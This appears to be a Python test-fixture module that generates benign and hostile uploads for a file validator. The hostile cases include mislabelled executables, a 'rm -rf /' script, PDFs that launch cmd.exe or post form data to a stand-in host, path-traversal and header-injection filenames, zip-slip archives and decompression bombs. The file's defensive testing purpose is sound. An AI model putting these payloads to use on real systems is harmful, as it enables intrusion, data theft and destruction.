"""Files as people send them, and as nobody should: made here, each from scratch."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 200
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><script>alert(1)</script>"
SECRET = "Slapta-vieta-55.7"
"""Stands in what must not come through: comments, EXIF, what is appended."""


# Good ones


def saved(pdf: pikepdf.Pdf, **how: object) -> bytes:
    made = io.BytesIO()
    pdf.save(made, **how)  # type: ignore[arg-type]
    return made.getvalue()


def blank(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    return pdf


def a_pdf() -> bytes:
    return saved(blank())


def a_picture(mode: str = "RGB", size: tuple[int, int] = (60, 40)) -> Image.Image:
    picture = Image.new(mode, size)
    picture.paste(1 if mode in ("1", "P") else 0x55, (0, 0, size[0] // 2, size[1] // 2))
    return picture


def a_jpeg(mode: str = "RGB", **how: object) -> bytes:
    made = io.BytesIO()
    a_picture(mode).save(made, "JPEG", **how)
    return made.getvalue()


def a_png(mode: str = "RGB", **how: object) -> bytes:
    made = io.BytesIO()
    a_picture(mode).save(made, "PNG", **how)
    return made.getvalue()


def a_jpeg_with_a_place() -> bytes:
    """A photograph as a telephone makes it: lying on its side, with where it was taken and a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6  # lies on its side
    exif[0x010E] = SECRET
    exif.get_ifd(0x8825)[2] = (55.0, 42.0, 0.0)
    return a_jpeg(exif=exif, comment=SECRET.encode())


def a_png_with_words() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", SECRET)
    words.add_itxt("Title", SECRET)
    return a_png(pnginfo=words, exif=b"Exif\0\0" + SECRET.encode())


def an_archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../etc/passwd", "x")
        archive.writestr("word/document.xml", SECRET)
    return made.getvalue()


def acceptable() -> dict[str, tuple[str, bytes]]:
    linked = blank()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
    link.A = Dictionary(S=Name.URI, URI=String("https://www.e-tar.lt/"))
    goes = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
    goes.A = Dictionary(S=Name.URI, URI=String("www.vrm.lt"))
    linked.pages[0].Annots = Array([link, goes])
    linked.Root.OpenAction = Array([linked.pages[0].obj, Name.Fit])
    form = blank()
    form.Root.AcroForm = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("vardas"))]))
    streams = pikepdf.ObjectStreamMode.generate
    return {
        "pdf": ("sutartis.pdf", a_pdf()),
        "pdf, its ending in capitals": ("SUTARTIS.PDF", a_pdf()),
        "pdf with links and a page to open at": ("nuorodos.pdf", saved(linked)),
        "pdf with fields": ("anketa.pdf", saved(form)),
        "pdf with object streams": ("naujas.pdf", saved(blank(3), object_stream_mode=streams)),
        "pdf for the web": ("zinklui.pdf", saved(blank(3), linearize=True)),
        "pdf with an empty line after its end": ("eilute.pdf", a_pdf() + b"\r\n\r\n"),
        "pdf with another ending inside its name": ("diplomas.exe.pdf", a_pdf()),
        "jpeg": ("diplomas.jpg", a_jpeg()),
        "jpeg, the longer ending": ("diplomas.jpeg", a_jpeg()),
        "jpeg in grey": ("diplomas.jpg", a_jpeg("L")),
        "jpeg for print": ("diplomas.jpg", a_jpeg("CMYK")),
        "jpeg in several passes": ("diplomas.jpg", a_jpeg(progressive=True)),
        "photograph with a place": ("telefonas.jpg", a_jpeg_with_a_place()),
        "png": ("nuotrauka.png", a_png()),
        "png that lets through": ("nuotrauka.png", a_png("RGBA")),
        "png in black and white": ("nuotrauka.png", a_png("1")),
        "png of few colours": ("nuotrauka.png", a_png("P")),
        "png of few colours, one of them none": ("nuotrauka.png", a_png("P", transparency=1)),
        "png in 16 bits": ("nuotrauka.png", a_png("I;16")),
        "png with words": ("nuotrauka.png", a_png_with_words()),
        "letters of the country": ("Žąsų ėdžios – įmonė.pdf", a_pdf()),
        "two dots that lead nowhere": ("sutartis..galutinė.pdf", a_pdf()),
        "a path of an old browser": ("C:\\Dokumentai\\sutartis.pdf", a_pdf()),
        "quotes": ('"sutartis" <1>.pdf', a_pdf()),
        "the longest name": ("a" * 146 + ".pdf", a_pdf()),
    }


# Those that lie about what they are


def lying() -> dict[str, tuple[str, bytes]]:
    cases = {
        f"{kind} called {ending}": (f"failas.{ending}", content)
        for kind, content in {
            "program": EXE, "page": HTML, "svg": SVG, "archive": an_archive(), "text": b"labas", "virus": EICAR,
            "script": b"#!/bin/sh\nrm -rf /\n", "gif": b"GIF89a" + b"\0" * 40, "rtf": rb"{\rtf1\object}",
            "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "nothing but zeros": b"\0" * 999,
        }.items()
        for ending in ("pdf", "jpg", "png")
    }  # fmt: skip
    return cases | {
        "pdf called png": ("failas.png", a_pdf()),
        "pdf called jpg": ("failas.jpg", a_pdf()),
        "pdf called exe": ("failas.exe", a_pdf()),
        "pdf called html": ("failas.html", a_pdf()),
        "pdf called pdf.exe": ("failas.pdf.exe", a_pdf()),
        "pdf without an ending": ("failas", a_pdf()),
        "pdf that is nothing but its ending": (".pdf", a_pdf()),
        "png called jpg": ("failas.jpg", a_png()),
        "jpeg called png": ("failas.png", a_jpeg()),
        "svg called svg": ("failas.svg", SVG),
        "page called html": ("failas.html", HTML),
        "archive called docx": ("failas.docx", an_archive()),
        "archive called asice": ("failas.asice", an_archive()),
        "archive called adoc": ("failas.adoc", an_archive()),
        "program called exe": ("failas.exe", EXE),
        "pdf behind a page": ("failas.pdf", HTML + a_pdf()),
        "pdf behind a line": ("failas.pdf", b"\n" + a_pdf()),
        "webp called jpg": ("failas.jpg", b"RIFF\0\0\0\0WEBPVP8 "),
    }


# PDFs that do something


def active() -> dict[str, tuple[str, bytes]]:
    found = {name: ("failas.pdf", saved(make(blank()))) for name, make in ACTIVE.items()}
    written = a_pdf().replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction <</S /J#61vaScript /J#53 (app.alert\\(1\\))>>"
    )
    streams = pikepdf.ObjectStreamMode.generate
    return found | {
        "script, its name disguised": ("failas.pdf", renumbered(written)),
        "script in an object stream": (
            "failas.pdf",
            saved(_opens(blank(), _script()), object_stream_mode=streams),
        ),
    }


def renumbered(content: bytes) -> bytes:
    """Give an edited PDF a table that fits it, touching no word of it."""
    offsets = {}
    at = 0
    for line in content.splitlines(keepends=True):
        if line.rstrip().endswith(b" obj"):
            offsets[int(line.split()[0])] = at
        at += len(line)
    table = content.rindex(b"xref\n", 0, content.rindex(b"startxref"))
    trailer = content[content.rindex(b"trailer") : content.rindex(b"startxref")]
    rows = b"".join(b"%010d 00000 n \n" % offsets[number] for number in sorted(offsets))
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    return content[:table] + head + rows + trailer + b"startxref\n%d\n%%%%EOF\n" % table


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _opens(pdf: pikepdf.Pdf, action: Dictionary) -> pikepdf.Pdf:
    pdf.Root.OpenAction = action
    return pdf


def _annotated(pdf: pikepdf.Pdf, **about: object) -> pikepdf.Pdf:
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **about))])
    return pdf


def _script_by_name(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(_script())]))
    )
    return pdf


def _script_when_closed(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.Root.AA = Dictionary(WC=_script())
    return pdf


def _script_of_a_page(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.pages[0].AA = Dictionary(O=_script())
    return pdf


def _script_in_a_stream(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    return _opens(pdf, Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))


def _script_after_another(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    return _opens(pdf, Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([_script()])))


def _attached(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.attachments["virusas.exe"] = EXE
    return pdf


def _attached_to_a_page(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    file = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=pdf.make_stream(EXE)))
    return _annotated(pdf, Subtype=Name.FileAttachment, FS=file)


def _lying_about(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.Root.Extra = pdf.make_stream(EXE, Type=Name.EmbeddedFile)
    return pdf


def _xfa(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))
    return pdf


def _field_that_computes(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_script()))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return pdf


def _from_elsewhere(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.Root.Extra = pdf.make_stream(b"", F=String("\\\\svetimas\\byla"))
    return pdf


def _begins_with_a_script(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.Root.URI = Dictionary(Base=String("javascript:"))
    return pdf


def _leads_to(address: str) -> Callable[[pikepdf.Pdf], pikepdf.Pdf]:
    return lambda pdf: _annotated(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address))
    )  # fmt: skip


def _does(action: str, **about: object) -> Callable[[pikepdf.Pdf], pikepdf.Pdf]:
    return lambda pdf: _annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name(action), **about))


ACTIVE: dict[str, Callable[[pikepdf.Pdf], pikepdf.Pdf]] = {
    "script at opening": lambda pdf: _opens(pdf, _script()),
    "script by name": _script_by_name,
    "script at closing": _script_when_closed,
    "script of a page": _script_of_a_page,
    "script in a stream": _script_in_a_stream,
    "script after going to a page": _script_after_another,
    "script of a field": _field_that_computes,
    "program started at opening": lambda pdf: _opens(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "program started by a link": _does("/Launch", F=String("/bin/sh")),
    "answers sent": _does("/SubmitForm", F=String("http://svetimas.example/")),
    "answers taken in": _does("/ImportData", F=String("a.fdf")),
    "another file opened": _does("/GoToR", F=String("\\\\svetimas\\byla.pdf")),
    "a file inside opened": _does("/GoToE", T=Dictionary(R=Name.C)),
    "film by action": _does("/Rendition"),
    "film": lambda pdf: _annotated(pdf, Subtype=Name.Movie),
    "film on a screen": lambda pdf: _annotated(pdf, Subtype=Name.Screen),
    "sound": lambda pdf: _annotated(pdf, Subtype=Name.Sound),
    "flash": lambda pdf: _annotated(pdf, Subtype=Name.RichMedia),
    "model": lambda pdf: _annotated(pdf, Subtype=Name("/3D")),
    "file attached": _attached,
    "file attached to a page": _attached_to_a_page,
    "file hidden": _lying_about,
    "form for one program": _xfa,
    "bytes of another file": _from_elsewhere,
    "address every link begins with": _begins_with_a_script,
    "link that is a script": _leads_to("javascript:alert(1)"),
    "link to a file": _leads_to("file:///etc/passwd"),
    "link to a folder of others": _leads_to("\\\\svetimas\\byla"),
}


# Files that are broken, mixed or made to burst


def broken() -> dict[str, tuple[str, bytes]]:
    pdf, png, jpeg = a_pdf(), a_png(), a_jpeg()
    big = saved(blank(40))
    locked = pikepdf.Encryption(owner="a", user="b")
    half_locked = pikepdf.Encryption(owner="a", user="")
    return {
        "empty pdf": ("failas.pdf", b""),
        "empty png": ("failas.png", b""),
        "pdf of nothing but a beginning": ("failas.pdf", b"%PDF-1.7\n"),
        "pdf of noise": ("failas.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40),
        "pdf cut off": ("failas.pdf", big[: len(big) // 2]),
        "pdf without its last line": ("failas.pdf", pdf[: pdf.rindex(b"startxref")]),
        "pdf whose table leads astray": ("failas.pdf", pdf.replace(b"startxref\n", b"startxref\n9")),
        "pdf without pages": ("failas.pdf", saved(blank(0))),
        "pdf with a password": ("failas.pdf", saved(blank(), encryption=locked)),
        "pdf that may not be printed": ("failas.pdf", saved(blank(), encryption=half_locked)),
        "pdf and archive": ("failas.pdf", pdf + an_archive()),
        "pdf and archive, the end of a pdf after it": ("failas.pdf", _archive_inside(pdf)),
        "pdf and program": ("failas.pdf", pdf + EXE),
        "pdf and page": ("failas.pdf", pdf.replace(b"%PDF-", b"%PDF-1.3\n%<script>alert(1)</script>\n%PDF-", 1)),
        "pdf nested without end": ("failas.pdf", renumbered(pdf.replace(b"/Type /Catalog", b"/Type /Catalog /A " + b"[" * 5000 + b"]" * 5000))),
        "png of nothing but a beginning": ("failas.png", png[:8]),
        "png cut off": ("failas.png", png[: len(png) // 2 + 20]),
        "png with a wrong sum": ("failas.png", png.replace(b"IDAT", b"IDAt")),
        "png of 60,000 by 60,000": ("failas.png", a_claim(60_000, 60_000)),
        "png of 2 thousand million wide": ("failas.png", a_claim(2**31 - 1, 1)),
        "png of more than 40 million": ("failas.png", a_flood(6401, 6401)),
        "png without a size": ("failas.png", a_claim(0, 0)),
        "png that moves": ("failas.png", a_moving_png()),
        "jpeg of nothing but a beginning": ("failas.jpg", jpeg[:3]),
        "jpeg cut off": ("failas.jpg", jpeg[: len(jpeg) // 2]),
        "jpeg of 65,000 by 65,000": ("failas.jpg", a_claim_of_jpeg(65_000, 65_000)),
    }  # fmt: skip


def _archive_inside(pdf: bytes) -> bytes:
    """An archive whose comment is the end of a PDF, behind a PDF: either reader finds its own."""
    archive = bytearray(an_archive())
    comment = b"\n%%EOF\n"
    archive[-2:] = struct.pack("<H", len(comment))
    return pdf + bytes(archive) + comment


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def a_claim(width: int, height: int) -> bytes:
    """A PNG whose head claims a size its few bytes do not have."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 99))
        + _chunk(b"IEND", b"")
    )


def a_flood(width: int, height: int) -> bytes:
    """A PNG that has all it claims: one bit a pixel, of one colour, in a few bytes."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\0" * (1 + (width + 7) // 8)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(row * height))
        + _chunk(b"IEND", b"")
    )


def a_moving_png() -> bytes:
    made = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "green")]
    frames[0].save(made, "PNG", save_all=True, append_images=frames[1:])
    return made.getvalue()


def a_claim_of_jpeg(width: int, height: int) -> bytes:
    jpeg = bytearray(a_jpeg())
    frame = jpeg.index(b"\xff\xc0")
    jpeg[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


# Names

BAD_NAMES = {
    "up": "../sutartis.pdf",
    "up and up": "../../etc/passwd.pdf",
    "up the other way": "..\\..\\sutartis.pdf",
    "up in the middle": "a/../sutartis.pdf",
    "up from the root": "/var/../sutartis.pdf",
    "up with spaces": ".. /sutartis.pdf",
    "nothing but up": "..",
    "a folder": "sutartys/",
    "a zero": "sutartis.pdf\0.exe",
    "a line": "sutar\ntis.pdf",
    "a header": "a.pdf\r\nSet-Cookie: a=b",
    "a bell": "sutar\x07tis.pdf",
    "turned round": "sutar\u202efdp.exe.pdf",
    "turned round and held": "\u2067sutartis\u2069.pdf",
    "a mark of direction": "sutar\u200ftis.pdf",
    "without width": "sutar\u200btis.pdf",
    "mark of order": "\ufeffsutartis.pdf",
    "a new paragraph": "sutar\u2029tis.pdf",
    "too long": "a" * 147 + ".pdf",
    "far too long": "a" * 5000 + ".pdf",
    "nothing": "",
    "spaces": "   ",
    "dots": "....",
}
